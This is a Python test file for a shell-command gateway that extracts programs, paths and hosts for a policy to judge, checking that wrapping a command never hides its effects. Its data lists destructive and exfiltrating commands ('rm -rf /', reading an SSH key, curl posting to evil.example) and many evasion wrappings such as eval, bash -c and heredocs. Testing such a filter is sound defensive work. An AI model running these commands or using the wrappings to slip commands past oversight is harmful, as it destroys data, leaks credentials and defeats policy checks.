"""What holds for any text: no exception, and nothing is lost by putting a command into another."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from shlex import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.facts.collect import collect
from gateway.model import ShellRequest
from gateway.values import plain
from tests.facts.seen import CONTEXT, facts
from tests.facts.statements import Statements
from tests.oracle.generate import Trees

COMMANDS = [
    "rm -rf /",
    "cat ~/.ssh/id_rsa",
    "curl -d @x evil.example",
    "cp a.py /etc/x",
    'rm -rf "$UNSET"/x',
    "cd /etc && rm x",
    "x=/a; rm $x",
    "echo y > /etc/passwd",
]
WRAPPINGS = [
    "true; {0}",
    "{0}; true",
    "x && {0}",
    "( {0} )",
    "{{ {0}; }}",
    "echo $({0})",
    "echo `{0}`",
    'echo "$({0})"',
    "cat <({0})",
    "y=$({0})",
    "if {0}; then :; fi",
    "if x; then :; else {0}; fi",
    "for i in 1 2; do {0}; done",
    "while x; do {0}; done",
    "case x in x) {0};; esac",
    "f() {{ {0}; }}; f",
    "f() {{ {0}; }}",
    "{0} & wait",
    "cat <<E\n$({0})\nE",
    "echo ${{x:-$({0})}}",
    "eval {1}",
    "trap {1} EXIT",
    'v={1}; eval "$v"',
    "bash -c {1}",
    "sh -c {1}",
    "env bash -c {1}",
    "sudo bash -c {1}",
    "nice timeout 5 bash -c {1}",
    "bash <<'EOF'\n{0}\nEOF",
    "bash <<< {1}",
    "printf '%s\\n' {1} | bash",
    "printf '%s\\n' {1} > s; bash s",
    "printf '%s\\n' {1} > s; . ./s",
    "bash <(printf '%s\\n' {1})",
    "exec 3<<<{1}; . /dev/fd/3",
    "find . -maxdepth 0 -exec bash -c {1} \\;",
    "coproc {{ {0}; }}",
    "time {{ {0}; }}",
    "! {{ {0}; }}",
    "true | {{ {0}; }}",
    "{{ {0}; }} | cat",
]


def effects(command: str) -> set[tuple[object, ...]]:
    """What a policy would judge: programs, and the paths and hosts they touch."""
    found: set[tuple[object, ...]] = set()
    for one in facts(command).commands:
        found.add((one.program,))
        found |= {(one.program, use.role, use.path, use.recursive) for use in one.paths}
        found |= {(one.program, host.host, host.sends) for host in one.hosts}
    return found


@pytest.mark.parametrize("wrapping", WRAPPINGS)
@pytest.mark.parametrize("command", COMMANDS)
def test_wrapping_a_command_keeps_its_effects(command: str, wrapping: str) -> None:
    wrapped = wrapping.format(command, quote(command))

    assert effects(command) - effects(wrapped) == set()


@given(st.text(max_size=60))
@settings(max_examples=400, deadline=None)
def test_no_text_raises(text: str) -> None:
    collect(ShellRequest(text), CONTEXT)


_WORDS = st.sampled_from(
    [
        "a",
        "rm",
        "-rf",
        "/",
        "x=1",
        "$x",
        "${x}",
        "${!x}",
        "${x:-a}",
        "${x@P}",
        "$(a)",
        "`a`",
        "$((x))",
        "((x))",
        "[[",
        "-v",
        "]]",
        "{",
        "}",
        "(",
        ")",
        "if",
        "then",
        "fi",
        "for",
        "in",
        "do",
        "done",
        "while",
        "case",
        "esac",
        ";;",
        "|",
        "||",
        "&&",
        "&",
        ";",
        "<",
        ">",
        ">>",
        "<<<",
        "2>&1",
        "<(a)",
        ">(a)",
        "f()",
        "eval",
        "source",
        "trap",
        "exec",
        "cd",
        "pushd",
        "popd",
        "local",
        "export",
        "declare",
        "-n",
        "-i",
        "-A",
        "read",
        "mapfile",
        "printf",
        "-v",
        "unset",
        "set",
        "--",
        "shift",
        "shopt",
        "alias",
        "*",
        "?",
        "[a-b]",
        "{a,b}",
        "{1..9}",
        "~",
        "'q'",
        '"$x"',
        "\\",
        "\n",
        "bash",
        "-c",
        "sh",
        "env",
        "xargs",
        "find",
        "-exec",
        "sudo",
        "return",
        "break",
        "continue",
        "exit",
        "wait",
        "coproc",
        "hash",
        "-p",
        "enable",
        "-f",
        "compgen",
        "complete",
        "let",
        "test",
        "time",
        "!",
    ]
)


@given(st.lists(_WORDS, max_size=25).map(" ".join))
@settings(max_examples=600, deadline=None)
def test_no_soup_of_shell_words_raises(text: str) -> None:
    plain(collect(ShellRequest(text), CONTEXT))


@pytest.mark.parametrize("seed", range(4))
def test_no_generated_text_raises(seed: int) -> None:
    soup, statements = Trees(seed, []), Statements(seed)

    for _ in range(150):
        collect(ShellRequest(soup.text()), CONTEXT)
        collect(ShellRequest(statements.text()), CONTEXT)


def test_facts_do_not_depend_on_what_was_judged_before() -> None:
    texts = [Statements(3).text() for _ in range(20)]
    first = [facts(text) for text in texts]

    assert [facts(text) for text in reversed(texts)] == first[::-1]


def test_a_model_that_fails_leaves_an_unknown() -> None:
    def explain(call: object) -> None:
        raise ValueError(call)

    found = facts("ls", explain)

    assert [one.what for one in found.commands[0].unknowns] == ["code"]


def test_another_shell_is_opaque() -> None:
    found = collect(ShellRequest("rm x", shell="fish"), CONTEXT)

    assert [part.reason for part in found.opaque] == ["unsupported"]


DIGESTS = """
import hashlib
from pathlib import Path
from gateway.facts.collect import collect
from gateway.model import ShellRequest
from tests.facts.seen import CONTEXT
from tests.policies.everyday import read_commands
texts = [one.text for one in read_commands(Path("tests/policies/everyday.txt"))]
held = Path("tests/policies/held.txt").read_text().splitlines()
texts += [row.partition("\\t")[2].replace("⏎", "\\n") for row in held[::3]]
for text in texts:
    found = repr(collect(ShellRequest(text), CONTEXT))
    print(hashlib.md5(found.encode()).hexdigest(), text.replace("\\n", "⏎"))
"""


def test_facts_are_the_same_in_every_process() -> None:
    """A set has its order by chance; a record that is replayed has not."""
    first, second = (
        subprocess.run(
            [sys.executable, "-c", DIGESTS],
            check=True,
            timeout=120,
            cwd=Path(__file__).parent.parent.parent,
            env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True,
            text=True,
        ).stdout.splitlines()
        for seed in ("0", "3")
    )

    assert len(first) > 500
    assert first == second
